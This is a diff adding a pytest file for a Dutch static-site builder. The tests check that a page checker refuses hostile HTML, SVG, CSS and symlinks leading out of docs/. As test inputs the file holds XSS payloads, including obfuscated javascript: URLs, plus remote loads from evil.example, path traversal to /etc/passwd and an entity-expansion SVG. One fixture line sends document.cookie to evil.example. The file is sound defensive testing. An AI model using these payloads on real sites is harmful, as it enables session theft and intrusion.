@@ -1,0 +1,184 @@
+"""Hostile page bodies, SVG figures, style sheets and files in docs/: refused with file and line."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+from conftest import make_site_project
+
+from koppelkansen.build import build_site
+from koppelkansen.pagecheck import check_css_file, check_page_html, check_svg_file
+from koppelkansen.validate import check_docs
+
+FRONT = "---\ntitle: Aanval\ntype: pagina\nstatus: concept\n---\n\n"
+
+HOSTILE_HTML = [
+    ("<script>alert(1)</script>", "<script>"),
+    ('<img src="x.png" alt="x" onerror="alert(1)">', "onerror"),
+    ('<div onmouseover="x()">a</div>', "onmouseover"),
+    ('<a href="javascript:alert(1)">klik</a>', "javascript:"),
+    ('<a href="  JaVa\tScRiPt:alert(1)">klik</a>', "javascript:"),
+    ('<a href="jav&#x61;script:alert(1)">klik</a>', "javascript:"),
+    ('<a href="vbscript:msgbox">klik</a>', "vbscript:"),
+    ('<img src="data:image/png;base64,AAAA" alt="x">', "data:"),
+    ('<iframe src="https://example.org"></iframe>', "<iframe>"),
+    ('<object data="x.swf"></object>', "<object>"),
+    ('<embed src="x.swf">', "<embed>"),
+    ('<img src="https://tracker.example/p.gif" alt="x">', "andere site"),
+    ('<img src="//tracker.example/p.gif" alt="x">', "andere site"),
+    ('<img srcset="a.png 1x, https://evil.example/b.png 2x" alt="x">', "andere site"),
+    ('<video poster="https://evil.example/p.jpg"></video>', "andere site"),
+    ('<div style="background:url(https://evil.example/x.png)">a</div>', "van buiten de site"),
+    ("<style>@import url(https://evil.example/x.css);</style>", "@import"),
+    ('<svg><image href="https://evil.example/x.png"/></svg>', "andere site"),
+    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript:"),
+    ('<svg><use href="https://evil.example/s.svg#a"/></svg>', "andere site"),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>"),
+    ('<base href="https://evil.example/">', "<base>"),
+    ('<form action="https://evil.example"><input name="x"></form>', "<form>"),
+    ('<img src="../../../../etc/passwd" alt="x">', "buiten docs/"),
+    ('<a href="../../../../../etc/passwd">x</a>', "buiten docs/"),
+]
+
+
+@pytest.mark.parametrize(("html", "expected"), HOSTILE_HTML)
+def test_active_content_is_refused_with_file_and_line(tmp_path, html, expected):
+    source = tmp_path / "aanval.md"
+    text = FRONT + "Gewone tekst.\n\n" + html + "\n"
+    problems = check_page_html(html, "aanval/", source, text)
+    assert problems, html
+    assert any(expected.lower() in p.message.lower() for p in problems), problems
+    assert all(p.path == source for p in problems)
+    assert problems[0].line == 9  # the line of the HTML in the Markdown file
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<div class="grid" markdown><figure><img src="fig.png" alt="Kaart"></figure></div>',
+        '<a href="https://www.waternet.nl/">Waternet</a> <a href="mailto:a@b.nl">mail</a>',
+        '<span style="color: #005">blauw</span> <table><tr><td colspan="2">x</td></tr></table>',
+        '<svg viewBox="0 0 10 10"><use href="#a"/><a href="../andere/">x</a></svg>',
+        '<a href="../andere/#kop">terug</a> <img src="../plaatje.png" alt="p">',
+        "<details><summary>Meer</summary><p>tekst</p></details>",
+    ],
+)
+def test_layout_html_stays_allowed(tmp_path, html):
+    assert check_page_html(html, "casussen/pagina/", tmp_path / "p.md", html) == []
+
+
+def test_svg_figure_with_script_or_remote_image_is_refused(tmp_path):
+    svg = tmp_path / "fig.svg"
+    svg.write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
+        "<script>alert(1)</script>\n"
+        '<rect onclick="x()" width="1" height="1"/>\n'
+        '<image xlink:href="https://evil.example/x.png"/>\n'
+        "</svg>\n",
+        encoding="utf-8",
+    )
+    problems = check_svg_file(svg)
+    assert [p.line for p in problems] == [2, 3, 4]
+    entity = tmp_path / "bom.svg"
+    entity.write_text(
+        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n'
+        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>\n',
+        encoding="utf-8",
+    )
+    assert any("DOCTYPE" in p.message for p in check_svg_file(entity))
+    broken = tmp_path / "kapot.svg"
+    broken.write_text("<svg><g></svg>", encoding="utf-8")
+    assert "geen geldige XML" in check_svg_file(broken)[0].message
+
+
+def test_style_sheet_loading_from_another_host_is_refused(tmp_path):
+    css = tmp_path / "extra.css"
+    css.write_text(
+        "body { color: red; }\n@import url('https://evil.example/x.css');\n", encoding="utf-8"
+    )
+    problems = check_css_file(css)
+    assert problems and problems[0].line == 2
+
+
+def test_build_refuses_hostile_pages_and_keeps_the_site(tmp_path, capfd):
+    config = make_site_project(tmp_path)
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "index.html").write_text("oud", encoding="utf-8")
+    docs = tmp_path / "docs"
+    (docs / "script.md").write_text(
+        FRONT + "Tekst.\n\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n",
+        encoding="utf-8",
+    )
+    (docs / "link.md").write_text(
+        FRONT + "Een [link](javascript:alert(document.domain)).\n", encoding="utf-8"
+    )
+    (docs / "pixel.md").write_text(
+        FRONT + "\n\n![pixel](https://tracker.example/p.gif)\n", encoding="utf-8"
+    )
+    assert build_site(config, site) != 0
+    err = capfd.readouterr().err
+    assert "docs/script.md:9:1: fout: <script>" in err
+    assert "docs/link.md:7:1: fout: 'href' op <a> gebruikt een javascript:-adres" in err
+    assert "docs/pixel.md:9:1: fout: <img src=" in err
+    assert "Traceback" not in err
+    assert (site / "index.html").read_text(encoding="utf-8") == "oud"
+    assert not list(tmp_path.glob(".site.*"))
+
+
+# -- files in docs/ (item 3) ---------------------------------------------------------------------
+
+
+def _messages(docs: Path) -> list[str]:
+    _, problems, _ = check_docs(docs)
+    return [p.format(docs.parent) for p in problems]
+
+
+def test_symlink_out_of_the_repository_is_refused(tmp_path):
+    config = make_site_project(tmp_path)
+    docs = config.parent / "docs"
+    secret = tmp_path.parent / f"{tmp_path.name}-geheim.md"
+    secret.write_text(FRONT + "geheim\n", encoding="utf-8")
+    try:
+        (docs / "lek.md").symlink_to(secret)
+        (docs / "map").symlink_to(tmp_path.parent, target_is_directory=True)
+        (docs / "plaatje.png").symlink_to("/etc/hostname")
+        messages = _messages(docs)
+        assert any(m.startswith("docs/lek.md:1:1: fout:") and "buiten docs/" in m for m in messages)
+        assert any(m.startswith("docs/map:1:1: fout:") and "snelkoppeling" in m for m in messages)
+        assert any(m.startswith("docs/plaatje.png:1:1: fout:") for m in messages)
+        assert build_site(config, tmp_path / "site") != 0
+        assert not (tmp_path / "site").exists()
+    finally:
+        secret.unlink()
+
+
+def test_dangling_symlink_folder_named_like_a_page_and_upper_case_extension(tmp_path):
+    config = make_site_project(tmp_path)
+    docs = config.parent / "docs"
+    (docs / "weg.md").symlink_to(tmp_path / "bestaat-niet.md")
+    (docs / "x.md").mkdir()
+    (docs / "x.md" / "binnen.md").write_text(FRONT, encoding="utf-8")
+    (docs / "HOOFD.MD").write_text(FRONT, encoding="utf-8")
+    messages = _messages(docs)
+    assert any(m.startswith("docs/weg.md:1:1: fout:") and "niet bestaat" in m for m in messages)
+    assert any(m.startswith("docs/x.md:1:1: fout:") and "is een map" in m for m in messages)
+    assert any(m.startswith("docs/HOOFD.MD:1:1: fout:") and "HOOFD.md" in m for m in messages)
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
+def test_unreadable_page_gives_a_message(tmp_path):
+    config = make_site_project(tmp_path)
+    page = config.parent / "docs" / "dicht.md"
+    page.write_text(FRONT, encoding="utf-8")
+    page.chmod(0)
+    assert any("kan niet worden gelezen" in m for m in _messages(config.parent / "docs"))
+
+
+def test_script_after_deep_nesting_or_control_characters_is_still_found(tmp_path):
+    deep = "<div>" * 400 + "x" + "</div>" * 400 + "<script>alert(1)</script>"
+    assert check_page_html(deep, "p/", tmp_path / "p.md", deep)
+    odd = "tekst\x0b\x00<script>alert(1)</script>"
+    assert any("<script>" in p.message for p in check_page_html(odd, "p/", tmp_path / "p.md", odd))
